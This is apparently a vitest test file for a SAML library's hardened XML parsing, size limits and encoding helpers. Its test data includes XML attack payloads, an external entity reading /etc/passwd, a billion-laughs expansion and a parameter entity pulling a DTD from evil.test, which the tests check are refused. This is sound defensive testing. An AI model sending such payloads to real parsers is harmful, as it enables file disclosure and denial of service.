import type { Element } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import { decodeBase64, parseSamlTime, samlTime } from '../../../src/protocols/saml/encoding.js';
import {
  MESSAGE_LIMITS,
  METADATA_LIMITS,
  NS,
  checkXmlLimits,
  childElements,
  parseXml,
  serialize,
  serializeStandalone,
  textContent,
} from '../../../src/protocols/saml/xml.js';
import { expectSamlError } from './helpers.js';

describe('hardened XML parsing', () => {
  it.each([
    ['external entity (XXE)', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['billion laughs', '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'],
    ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>'],
    ['plain DOCTYPE', '<!DOCTYPE r><r/>'],
    ['lowercase doctype with spaces', '<! doctype r><r/>'],
  ])('refuses a DTD: %s', async (_n, xml) => {
    await expectSamlError(() => parseXml(xml), 'InvalidXml', /DTD/);
  });

  it.each([
    ['unclosed tag', '<a><b></a>'],
    ['unbound prefix', '<x:a/>'],
    ['text only', 'not xml'],
    ['empty', ''],
    ['undefined entity', '<a>&nope;</a>'],
    ['two roots', '<a/><b/>'],
  ])('refuses malformed XML: %s', async (_n, xml) => {
    await expectSamlError(() => parseXml(xml), 'InvalidXml');
  });

  it('parses a normal document', () => {
    const doc = parseXml(`<p:r xmlns:p="${NS.protocol}"><p:c/><p:c/></p:r>`);
    expect(childElements(doc.documentElement as Element, NS.protocol, 'c')).toHaveLength(2);
  });

  it('textContent keeps all text and CDATA and drops comments', () => {
    const doc = parseXml('<a>ab<!--c-->cd<![CDATA[ef]]><b>gh</b><?pi x?></a>');
    expect(textContent(doc.documentElement as Element)).toBe('abcdefgh');
  });

  it('serializeStandalone declares namespaces inherited from ancestors and leaves the tree unchanged', () => {
    const doc = parseXml(`<p:r xmlns:p="urn:p" xmlns:q="urn:q" xmlns="urn:d"><p:c q:x="1"><e/></p:c></p:r>`);
    const c = childElements(doc.documentElement as Element, 'urn:p', 'c')[0];
    const before = serialize(doc);
    const standalone = serializeStandalone(c);
    expect(serialize(doc)).toBe(before);
    const reparsed = parseXml(standalone).documentElement as Element;
    expect(reparsed.namespaceURI).toBe('urn:p');
    expect(reparsed.getAttributeNS('urn:q', 'x')).toBe('1');
    expect((reparsed.firstChild as Element).namespaceURI).toBe('urn:d');
  });
});

describe('XML size and shape limits (checked before a DOM is built)', () => {
  const limits = { maxLength: 10_000, maxElements: 10, maxDepth: 3, maxAttributesPerElement: 2, maxAttributeValueLength: 5 };
  const check = (xml: string) => () => checkXmlLimits(xml, limits, 'test document');

  it('counts elements, depth and attributes exactly at the limits', () => {
    expect(check(`<a><b><c/></b>${'<d/>'.repeat(7)}</a>`)).not.toThrow();
    expect(check('<a x="12345" y="1"><b><c/></b></a>')).not.toThrow();
  });

  it.each([
    ['elements', `<a>${'<d/>'.repeat(10)}</a>`, 'more than 10 elements'],
    ['depth', '<a><b><c><d/></c></b></a>', 'elements nested more than 3 deep'],
    ['attributes', '<a x="1" y="2" z="3"/>', 'an element with more than 2 attributes'],
    ['attribute value', "<a x='123456'/>", 'an attribute value longer than 5 characters'],
    ['length', `<a>${'v'.repeat(10_000)}</a>`, 'more than 10000 characters'],
  ])('refuses one too many: %s', async (_n, xml, detail) => {
    await expectSamlError(check(xml), 'InvalidXml', `The test document is too large or too complex to process (${detail}).`);
  });

  it('does not count markup inside comments, CDATA, processing instructions or attribute values', () => {
    const xml = `<?xml version="1.0"?><a x="&gt;<"><!-- <b/><b/><b/><b/><b/><b/><b/><b/><b/><b/> --><![CDATA[<b/><b/><b/><b/><b/><b/><b/><b/><b/><b/>]]><?pi <b/><b/><b/><b/><b/><b/><b/><b/><b/><b/>?></a>`;
    expect(check(xml)).not.toThrow();
  });

  it.each([
    ['an unterminated comment', `<a><!-- ${'<b/>'.repeat(20)}</a>`],
    ['an unterminated CDATA section', '<a><![CDATA[x</a>'],
    ['an unterminated processing instruction', '<a><?pi x</a>'],
    ['an unterminated attribute value', `<a x="${'<b/>'.repeat(20)}`],
    ['a "<" inside a tag', `<a <b/>${'<b/>'.repeat(20)}</a>`],
    ['a tag that never closes', '<a><b'],
  ])('refuses markup it cannot follow: %s', async (_n, xml) => {
    await expectSamlError(check(xml), 'InvalidXml', 'The test document is not well-formed XML (unterminated markup).');
  });

  it('a quoted ">" does not end the tag early', async () => {
    await expectSamlError(check('<a x=">" y="1" z="2"/>'), 'InvalidXml', /more than 2 attributes/);
  });

  it('parseXml applies the message limits by default and takes larger ones for metadata', async () => {
    const wide = `<r>${'<e/>'.repeat(MESSAGE_LIMITS.maxElements)}</r>`;
    await expectSamlError(() => parseXml(wide, 'SAMLResponse'), 'InvalidXml', /more than 5000 elements/);
    expect(parseXml(wide, 'IdP metadata', METADATA_LIMITS).documentElement?.childNodes.length).toBe(MESSAGE_LIMITS.maxElements);
  });
});

describe('encoding helpers', () => {
  it('decodes base64 strictly (whitespace allowed, junk refused)', async () => {
    expect(decodeBase64('aGVs\nbG8=', 'x').toString()).toBe('hello');
    await expectSamlError(() => decodeBase64('aGVsbG8=!', 'x'), 'InvalidXml');
    await expectSamlError(() => decodeBase64('', 'x'), 'InvalidXml');
    await expectSamlError(() => decodeBase64('a', 'x'), 'InvalidXml');
  });

  it('reads xs:dateTime as UTC (zone-less too) and writes SAML time', async () => {
    expect(parseSamlTime('2024-06-01T12:00:00Z', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    expect(parseSamlTime('2024-06-01T12:00:00.123456Z', 't').toISOString()).toBe('2024-06-01T12:00:00.123Z');
    expect(parseSamlTime('2024-06-01T14:00:00+02:00', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    expect(parseSamlTime('2024-06-01T12:00:00', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    await expectSamlError(() => parseSamlTime('yesterday', 't'), 'InvalidXml');
    expect(samlTime(new Date('2024-06-01T12:00:00.999Z'))).toBe('2024-06-01T12:00:00Z');
  });
});
